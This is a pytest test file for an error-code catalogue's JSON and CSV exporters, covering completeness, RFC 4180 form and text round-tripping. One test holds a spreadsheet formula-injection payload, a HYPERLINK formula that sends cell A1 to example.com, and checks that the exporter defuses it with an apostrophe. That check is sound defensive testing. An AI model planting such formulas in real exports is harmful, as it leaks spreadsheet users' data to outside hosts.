"""The catalogue for programs: JSON and CSV."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from errdex.authoring.building import build_artefacts, load_project
from errdex.authoring.catalogue import Catalogue, Entry
from errdex.authoring.loading.loader import load_catalogue
from errdex.authoring.rendering import exports
from errdex.modules import load_module
from errdex.project import Project
from tests.conftest import ACME, ROOT, MakeProject
from tests.support.catalogues import answers_of, moderate

SMS = load_catalogue(ROOT / "codes" / "sms.yaml", "codes/sms.yaml")
ANSWERS = answers_of(SMS)


def rows(text: str) -> list[dict[str, str]]:
    """Return the rows of a CSV file as a strict reader sees them."""
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def with_text(entry: Entry, **texts: Any) -> Catalogue:
    """Return a catalogue of one entry with other texts."""
    return dataclasses.replace(SMS, entries=(dataclasses.replace(entry, **texts),))


def test_json_of_an_entry_is_that_of_the_module(make_project: MakeProject) -> None:
    """For each entry `api/catalogue.json` holds what the module's `to_dict()` returns."""
    project = make_project()
    build_artefacts(project, load_project(project))
    whole = json.loads((project.root / "build/docs/api/catalogue.json").read_text("utf-8"))
    module = load_module(project)
    for entry in whole["codes"]:
        assert module.lookup(entry["code"], entry["field"]).to_dict() == entry


def test_a_removed_meaning_is_no_other_field(make_project: MakeProject) -> None:
    """A value that went from one field is one of the other alone, in JSON as in the module."""
    done = ACME[ACME.index('  - code: "OK"') :].replace("field: state", "field: error")
    removed = f"{done}    lifecycle: {{state: removed, note: Gone.}}\n"
    project = make_project(
        ACME.replace('{code: "SB:0100", because', '"OK", {code: "SB:0100", because') + removed
    )
    build_artefacts(project, load_project(project))
    page = json.loads((project.root / "build/docs/api/codes/OK.json").read_text("utf-8"))
    entry = page["entries"][1]
    assert (entry["field"], entry["also"]) == ("state", [])
    assert load_module(project).lookup("OK").to_dict() == entry
    catalogue = load_catalogue(project.catalogue, "F")
    found = catalogue.find("OK")
    assert found is not None
    assert found.field == "state"
    assert catalogue.by_code["InvalidBucket"][0].see_also[0].field == "state"


def test_json_of_the_catalogue_is_complete() -> None:
    """Every entry, section and part of an entry is in the JSON of the whole catalogue."""
    whole = json.loads(exports.catalogue_json(SMS, exports.entry_lines(SMS, ANSWERS), ANSWERS))
    assert whole["catalogue"]["id"] == "sms"
    assert [(entry["field"], entry["code"]) for entry in whole["codes"]] == [
        (entry.field, entry.code) for entry in SMS.entries
    ]
    for section in ("sources", "owners", "fields", "groups"):
        assert list(whole[section]) == list(getattr(SMS, section))
    parts = {field.name for field in dataclasses.fields(Entry)} - {"retry_after", "see_field"}
    for entry in whole["codes"]:
        assert {*parts, "asked", "answer"} == set(entry)


def test_json_of_a_code_holds_every_field() -> None:
    """A value that appears in two fields has one file with both entries."""
    page = json.loads(exports.code_json(SMS, "000000", exports.entry_lines(SMS, ANSWERS)))
    assert page["code"] == "000000"
    assert page["url"] == f"{SMS.url}codes/000000/"
    assert [(entry["field"], entry["also"]) for entry in page["entries"]] == [
        ("code", ["status"]),
        ("status", ["code"]),
    ]


def test_csv_has_a_row_for_each_entry() -> None:
    """Codes come back from the CSV as text, zeros and all, in the catalogue's order."""
    table = rows(exports.catalogue_csv(SMS))
    assert [(row["field"], row["code"]) for row in table] == [
        (entry.field, entry.code) for entry in SMS.entries
    ]
    assert tuple(table[0]) == exports.COLUMNS
    whole = exports.entry_dict(SMS.entries[0], ANSWERS)
    assert set(whole) - {"asked", "answer"} | {"retry_after"} == {*exports.COLUMNS, "extra"}
    by_code = {row["code"]: row for row in table}
    assert (by_code["E200015"]["retry"], by_code["E200015"]["retry_after"]) == ("after", "600")
    assert by_code["404"]["success"] == "false"
    assert by_code["404"]["source"] == "\n".join(map(str, SMS.by_code["404"][0].source))
    assert by_code["E000510"]["cause"] == "\n".join(SMS.by_code["E000510"][0].cause)


def test_csv_is_that_of_the_standard() -> None:
    """Rows end in CRLF and have equally many cells; every quote in a cell is doubled (RFC 4180)."""
    text = exports.catalogue_csv(SMS)
    assert text.endswith("\r\n")
    table = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert {len(row) for row in table} == {len(exports.COLUMNS)}
    assert text.count('"') % 2 == 0


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t"])
def test_csv_defuses_formulas(sign: str) -> None:
    """A cell that a spreadsheet would compute begins with an apostrophe."""
    attack = f'{sign}HYPERLINK("http://example.com/?"&A1,"x")'
    catalogue = with_text(SMS.entries[0], title=attack, cause=(attack, "second"), notes=("x",))
    [row] = rows(exports.catalogue_csv(catalogue))
    assert row["title"] == f"'{attack}"
    assert row["cause"] == f"'{attack}\nsecond"
    assert row["notes"] == "x"


@moderate
@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=30))
def test_any_text_survives_csv_and_json(text: str) -> None:
    """Quotes, line ends, separators and characters of any plane come back as they were."""
    catalogue = with_text(SMS.entries[0], title=text, notes=(text,))
    [row] = rows(exports.catalogue_csv(catalogue))
    assert row["title"].removeprefix("'") == text.removeprefix("'")
    lines = exports.entry_lines(catalogue, ANSWERS)
    page = json.loads(exports.code_json(catalogue, catalogue.entries[0].code, lines))
    assert page["entries"][0]["title"] == text
    assert page["entries"][0]["notes"] == [text]


def test_exports_on_disk_are_whole(make_project: MakeProject) -> None:
    """Each code has a JSON file whose name is that of its page."""
    project: Project = make_project()
    build_artefacts(project, load_project(project))
    folder = project.root / "build/docs"
    pages = {path.stem for path in (folder / "codes").glob("*.md")} - {"index"}
    files = {path.stem: path for path in (folder / "api/codes").glob("*.json")}
    assert set(files) == pages == {"InvalidBucket", "SB~3A0100", "OK"}
    assert json.loads(files["SB~3A0100"].read_text("utf-8"))["code"] == "SB:0100"
    raw = Path(folder / "api/catalogue.csv").read_bytes()
    assert raw.count(b"\r\n") == 4
